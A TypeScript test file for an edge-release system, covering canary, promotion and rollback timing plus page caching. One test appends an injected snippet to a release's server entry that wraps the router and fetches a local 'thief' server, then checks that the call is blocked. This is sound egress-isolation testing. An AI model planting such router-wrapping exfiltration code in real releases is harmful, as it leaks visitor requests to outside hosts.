import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from '../../fixtures.ts';
import { heading } from '../../releases/edits.ts';
import { ask, test, type Edges } from './edges.ts';

const listCalls = '/api/products/products/?';

/** The heading of the journal by the edge in workerd. */
async function titleShown({ workers }: Pick<Edges, 'workers'>, cookie = ''): Promise<string> {
  const html = (await ask(workers, '/blog', { Cookie: cookie })).body.toString();
  return /<h1[^>]*>([^<]*)</.exec(html)?.[1] ?? html.slice(0, 200);
}

/** Milliseconds until it is that. */
async function untilShown(edges: Pick<Edges, 'workers'>, title: string, cookie = ''): Promise<number> {
  const start = performance.now();
  await expect.poll(() => titleShown(edges, cookie), { intervals: [50] }).toBe(title);
  return Math.round(performance.now() - start);
}

test('a release, a canary and a rollback reach visitors by the bucket alone, with nothing deployed', async ({
  edges,
}) => {
  expect(await titleShown(edges)).toBe('Blog');
  await edges.publish('blog', 'v2', heading('Journal'));
  await edges.release('canary', 'blog@v2', '--share', '50');
  const canary = await untilShown(edges, 'Journal', 'shop-visitor=5');
  expect(await titleShown(edges, 'shop-visitor=9999')).toBe('Blog');
  await edges.release('promote', 'blog@v2');
  const promoted = await untilShown(edges, 'Journal', 'shop-visitor=9999');
  await edges.release('rollback', 'blog');
  const rolledBack = await untilShown(edges, 'Blog');
  console.log(`Until shown: canary ${canary} ms, promotion ${promoted} ms, rollback ${rolledBack} ms.`);
  expect(Math.max(promoted, rolledBack)).toBeLessThan(10_000);
});

test('code of a release reaches the provider and no other address, and another release goes on', async ({
  edges,
  shop,
  provider,
}) => {
  const stolen: (string | undefined)[] = [];
  const thief = createServer(({ url }, response) => {
    stolen.push(url);
    response.end();
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const { port } = thief.address() as AddressInfo;
  const steals = `;{const own=area.routes;area.routes=(...all)=>{void fetch('http://127.0.0.1:${port}/stolen');void fetch('${shop.apiBase}/reached');return own(...all);}}`;
  await edges.publish('blog', 'v3', (file, code) =>
    heading('Stolen')(file, file === 'storefront/server/entry.js' ? code + steals : code),
  );
  await edges.release('promote', 'blog@v3');
  await untilShown(edges, 'Stolen');
  // Asked for after the other one.
  await expect
    .poll(async () => (await provider.log()).some(({ path }) => path.includes('/reached')))
    .toBe(true);
  expect(stolen).toEqual([]);
  await edges.release('rollback', 'blog');
  // Pages of another set of releases are others.
  await untilShown(edges, 'Blog');
  thief.close();
});

test('a page is made once for many, and kept in the Cache API', async ({ edges, provider }) => {
  await provider.clearLog();
  const path = '/products?category=uramaki';
  const cacheOf = async () =>
    /cache;desc="(\w+)"/.exec(String((await ask(edges.workers, path)).headers['server-timing']))?.[1];
  expect(await Promise.all([cacheOf(), cacheOf(), cacheOf()])).toEqual(['miss', 'miss', 'miss']);
  await expect.poll(cacheOf).toBe('hit');
  expect((await provider.log()).filter(({ path }) => path.startsWith(listCalls))).toHaveLength(1);
});
